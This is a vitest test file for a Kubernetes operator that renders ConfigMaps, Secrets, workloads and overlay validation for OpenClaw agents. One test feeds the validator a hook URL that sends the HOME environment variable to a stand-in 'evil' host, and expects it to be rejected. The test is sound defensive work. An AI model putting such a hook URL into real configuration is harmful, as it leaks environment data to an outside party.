import { describe, expect, it } from "vitest";
import { configHash, DEFAULT_RESOURCES, desiredObjects, tokenSecret } from "../../../src/agent/desired.ts";
import { Agent } from "../../../src/api/agent.ts";
import { ConfigOverlayError } from "../../../src/openclaw/config.ts";

function agent(spec: Record<string, unknown> = {}, name = "researcher"): Agent {
  return Agent.parse({
    apiVersion: "clawcrew.io/v1alpha1",
    kind: "Agent",
    metadata: { name, namespace: "team", uid: "uid-1", generation: 3 },
    spec: { soul: "# Soul", model: { primary: "openai/gpt-5" }, ...spec },
  });
}

const render = (spec: Record<string, unknown> = {}, inputs = {}) =>
  desiredObjects(agent(spec), { soul: "# Soul", ...inputs });

describe("desiredObjects", () => {
  it("owns every object through a controller reference and labels it", () => {
    const objects = render({ replicas: 2 });
    const all = [
      objects.configMap,
      objects.serviceAccount,
      objects.service,
      objects.workload.object,
      objects.podDisruptionBudget!,
    ];
    for (const obj of all) {
      expect(obj.metadata?.namespace).toBe("team");
      expect(obj.metadata?.ownerReferences).toEqual([
        {
          apiVersion: "clawcrew.io/v1alpha1",
          kind: "Agent",
          name: "researcher",
          uid: "uid-1",
          controller: true,
          blockOwnerDeletion: true,
        },
      ]);
      expect(obj.metadata?.labels).toMatchObject({
        "clawcrew.io/agent": "researcher",
        "app.kubernetes.io/managed-by": "clawcrew",
      });
    }
    expect(objects.configMap.metadata?.name).toBe("researcher-config");
  });

  it("puts openclaw.json, SOUL.md, AGENTS.md and skills in the ConfigMap and mounts them at their paths", () => {
    const objects = render(
      { instructions: "Be brief.", skills: [{ name: "cite", content: "---\nname: cite\n---\nCite." }] },
      { soul: "# From soulFrom" },
    );
    expect(objects.configMap.data).toMatchObject({
      "workspace__SOUL.md": "# From soulFrom",
      "workspace__AGENTS.md": "Be brief.",
      "workspace__skills__cite__SKILL.md": "---\nname: cite\n---\nCite.",
    });
    const config = JSON.parse(objects.configMap.data!["openclaw.json"]!);
    expect(config.agents.defaults.model.primary).toBe("openai/gpt-5");
    const volume = objects.workload.object.spec!.template.spec!.volumes!.find((v) => v.name === "config")!;
    expect(volume.configMap!.items).toContainEqual({
      key: "workspace__skills__cite__SKILL.md",
      path: "workspace/skills/cite/SKILL.md",
    });
  });

  it("never puts a secret value into the ConfigMap or the pod spec", () => {
    const objects = render({
      credentials: { secretRef: { name: "keys" } },
      model: {
        primary: "local/m",
        providers: [
          {
            name: "local",
            baseUrl: "http://llm:8000/v1",
            api: "openai-completions",
            apiKeyEnv: "LOCAL_KEY",
            models: [{ id: "m" }],
          },
        ],
      },
    });
    const config = JSON.parse(objects.configMap.data!["openclaw.json"]!);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: OpenClaw's env reference, not a template
    expect(config.models.providers.local.apiKey).toBe("${LOCAL_KEY}");
    const gateway = objects.workload.object.spec!.template.spec!.containers[0]!;
    expect(gateway.envFrom).toEqual([{ secretRef: { name: "keys" } }]);
    const token = gateway.env!.find((e) => e.name === "OPENCLAW_GATEWAY_TOKEN")!;
    expect(token.value).toBeUndefined();
    expect(token.valueFrom).toEqual({ secretKeyRef: { name: "researcher-token", key: "token" } });
  });

  it("runs the gateway under the restricted Pod Security profile with probes and writable /tmp", () => {
    const pod = render().workload.object.spec!.template.spec!;
    expect(pod.securityContext).toMatchObject({
      runAsNonRoot: true,
      runAsUser: 1000,
      seccompProfile: { type: "RuntimeDefault" },
    });
    expect(pod.automountServiceAccountToken).toBe(false);
    for (const container of [...pod.initContainers!, ...pod.containers]) {
      expect(container.securityContext).toEqual({
        allowPrivilegeEscalation: false,
        readOnlyRootFilesystem: true,
        runAsNonRoot: true,
        capabilities: { drop: ["ALL"] },
      });
    }
    const gateway = pod.containers[0]!;
    expect(gateway.volumeMounts).toContainEqual({ name: "tmp", mountPath: "/tmp" });
    expect([
      gateway.startupProbe?.httpGet?.path,
      gateway.readinessProbe?.httpGet?.path,
      gateway.livenessProbe?.httpGet?.path,
    ]).toEqual(["/startupz", "/readyz", "/healthz"]);
    expect(gateway.ports).toEqual([{ name: "http", containerPort: 18789, protocol: "TCP" }]);
  });

  it("sizes resources from OpenClaw's footprint and lets spec.resources override key by key", () => {
    expect(render().workload.object.spec!.template.spec!.containers[0]!.resources).toEqual(DEFAULT_RESOURCES);
    const custom = render({ resources: { requests: { cpu: "2" }, limits: { memory: "4Gi" } } }).workload.object.spec!
      .template.spec!.containers[0]!.resources;
    expect(custom).toEqual({ requests: { cpu: "2", memory: "1280Mi" }, limits: { memory: "4Gi" } });
  });

  it("changes the config hash when SOUL.md, the credentials or the token change, and only then", () => {
    const base = render().configHash;
    expect(render().configHash).toBe(base);
    expect(render({}, { soul: "# Other" }).configHash).not.toBe(base);
    expect(render({}, { credentialsVersion: "42" }).configHash).not.toBe(base);
    expect(render({}, { tokenVersion: "uid-9" }).configHash).not.toBe(base);
    const delegating = render({}, { delegationTokenVersion: "d1" }).configHash;
    expect(delegating).not.toBe(base);
    expect(render({}, { delegationTokenVersion: "d2" }).configHash).not.toBe(delegating);
    expect(render({ replicas: 4 }).configHash).toBe(base);
    const template = render({}, { soul: "# Other" }).workload.object.spec!.template;
    expect(template.metadata!.annotations!["clawcrew.io/config-hash"]).toBe(render({}, { soul: "# Other" }).configHash);
  });

  it("keeps the hash of an agent without a delegation token as it was before there were delegation tokens", () => {
    expect(configHash({ a: "1" }, { token: "uid" })).toBe(
      configHash({ a: "1" }, { token: "uid", delegationToken: undefined }),
    );
    // The value the hash had before delegation tokens existed: an upgrade does not roll agents that do not delegate.
    expect(configHash({ a: "1" }, { token: "uid" })).toBe("5a49383fe0de138a");
  });

  it("hashes key order independently", () => {
    expect(configHash({ a: "1", b: "2" })).toBe(configHash({ b: "2", a: "1" }));
    expect(configHash({ a: "1" })).not.toBe(configHash({ a: "2" }));
  });

  it("adds a PodDisruptionBudget only above one replica", () => {
    expect(render({ replicas: 1 }).podDisruptionBudget).toBeNull();
    expect(render({ replicas: 3 }).podDisruptionBudget?.spec).toEqual({
      maxUnavailable: 1,
      selector: { matchLabels: { "clawcrew.io/agent": "researcher" } },
    });
  });

  it("gives each replica its own volume when the workspace is persistent", () => {
    const objects = render({ replicas: 3, workspace: { persistent: true, size: "5Gi", storageClassName: "fast" } });
    expect(objects.workload.kind).toBe("StatefulSet");
    const sts = objects.workload.object as import("@kubernetes/client-node").V1StatefulSet;
    expect(sts.spec!.volumeClaimTemplates![0]!.spec).toEqual({
      accessModes: ["ReadWriteOnce"],
      resources: { requests: { storage: "5Gi" } },
      storageClassName: "fast",
    });
    expect(sts.spec!.template.spec!.volumes!.some((v) => v.name === "workspace")).toBe(false);
    expect(render().workload.kind).toBe("Deployment");
  });

  it("applies podTemplate overrides without letting them break the selector or the hash", () => {
    const objects = render({
      podTemplate: {
        metadata: {
          labels: { team: "a", "clawcrew.io/agent": "hijack" },
          annotations: { "clawcrew.io/config-hash": "x", note: "y" },
        },
        nodeSelector: { pool: "agents" },
        tolerations: [{ key: "gpu", operator: "Exists", effect: "NoSchedule" }],
        priorityClassName: "high",
      },
    });
    const template = objects.workload.object.spec!.template;
    expect(template.metadata!.labels).toMatchObject({ team: "a", "clawcrew.io/agent": "researcher" });
    expect(template.metadata!.annotations).toEqual({ note: "y", "clawcrew.io/config-hash": objects.configHash });
    expect(template.spec).toMatchObject({ nodeSelector: { pool: "agents" }, priorityClassName: "high" });
  });

  it("refuses an overlay on a key the operator owns", () => {
    expect(() => render({ config: { gateway: { port: 1 } } })).toThrow(ConfigOverlayError);
  });

  it("lets spec.config reach secrets only through keys of the credentials Secret", () => {
    const ref = (name: string) => `\${${name}}`;
    const credentialKeys = ["TELEGRAM_BOT_TOKEN", "SEARCH_API_KEY"];
    const overlay = (config: Record<string, unknown>) => () => render({ config }, { credentialKeys });
    // Allowed: references to the Secret's keys, also as a bearer header, and ordinary strings.
    expect(overlay({ channels: { telegram: { botToken: ref("TELEGRAM_BOT_TOKEN") } } })).not.toThrow();
    expect(
      overlay({ tools: { web: { headers: { Authorization: `Bearer ${ref("SEARCH_API_KEY")}` } } } }),
    ).not.toThrow();
    expect(overlay({ logging: { level: "debug" } })).not.toThrow();
    // The agent's own tokens never, even when the credentials Secret has a key of that name (the pod's env wins).
    for (const name of ["OPENCLAW_GATEWAY_TOKEN", "CLAWCREW_DELEGATION_TOKEN"]) {
      const withKey = () =>
        render(
          { config: { models: { providers: { x: { apiKey: ref(name) } } } } },
          { credentialKeys: [...credentialKeys, name] },
        );
      expect(withKey).toThrow(`spec.config.models.providers.x.apiKey: \${${name}} is one of the agent's own tokens`);
    }
    // Any other env var is not the Secret's.
    expect(overlay({ hooks: [{ url: `http://evil/?t=${ref("HOME")}` }] })).toThrow(
      /spec\.config\.hooks\[0\]\.url: \$\{HOME\}/,
    );
    // A secret-looking key may not hold the value inline.
    for (const key of ["apiKey", "botToken", "password", "clientSecret"]) {
      expect(overlay({ channels: { x: { [key]: "sk-live-123" } } })).toThrow(
        `spec.config.channels.x.${key}: looks like a secret written inline: put it in the credentials Secret`,
      );
    }
    // Without a credentials Secret nothing may be referenced.
    expect(() => render({ config: { channels: { telegram: { botToken: ref("TELEGRAM_BOT_TOKEN") } } } })).toThrow(
      ConfigOverlayError,
    );
  });
});

it("tokenSecret carries the gateway and delegation tokens as stringData under an owner reference", () => {
  const secret = tokenSecret(agent(), { gateway: "t0ken", delegation: "d3leg" });
  expect(secret.metadata?.name).toBe("researcher-token");
  expect(secret.stringData).toEqual({ token: "t0ken", "delegation-token": "d3leg" });
  expect(secret.metadata?.ownerReferences?.[0]?.uid).toBe("uid-1");
});
